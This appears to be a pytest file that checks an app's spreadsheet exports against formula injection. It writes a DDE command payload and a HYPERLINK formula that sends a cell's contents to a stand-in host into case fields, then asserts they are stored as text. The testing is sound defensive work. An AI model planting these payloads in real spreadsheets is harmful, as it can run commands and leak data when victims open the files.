"""Files the app writes are safe whatever the data holds (issue 15, findings 5–7): text is never
a formula, file names from case numbers never leave the chosen folder, and no temporary file
with personal data is left anywhere but the private folder."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from store_helpers import case_form, project_form

from wulong_desk.services import cases, projects
from wulong_desk.services.exports import export_ledger
from wulong_desk.services.survey import template_bytes
from wulong_desk.store import open_memory

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&C5,"点这里")',
           "+1+1", "@SUM(1)"]


@pytest.fixture
def store():
    s = open_memory("制表员")
    yield s
    s.close()


def _formulas(path: Path) -> list[str]:
    """Every formula in every sheet of the workbook, from the XML itself."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f[ >](.*?)</f>", archive.read(name).decode("utf-8"))
    return found


@pytest.mark.parametrize("public", [False, True])
def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path, store, public):
    project_id = projects.create_project(store, project_form(2, name=ATTACKS[0]))
    for number, attack in enumerate(ATTACKS):
        form = case_form(2, f"A-{number}", address=attack, remarks=attack)
        form["owners"][0]["name"] = attack
        cases.save_case(store, project_id, form)
    out = tmp_path / "ledger.xlsx"
    export_ledger(store, project_id, out, public=public, operator=ATTACKS[1])
    formulas = _formulas(out)
    assert formulas, "the totals row keeps its SUM formulas"
    assert all(f.startswith("SUM(") for f in formulas), formulas
    if not public:  # the text itself is kept, as text
        from openpyxl import load_workbook

        ws = load_workbook(out).worksheets[0]
        texts = {c.value for row in ws.iter_rows() for c in row}
        assert set(ATTACKS) <= texts


def test_the_survey_template_holds_no_formula(tmp_path):
    path = tmp_path / "t.xlsx"
    path.write_bytes(template_bytes())
    assert _formulas(path) == []
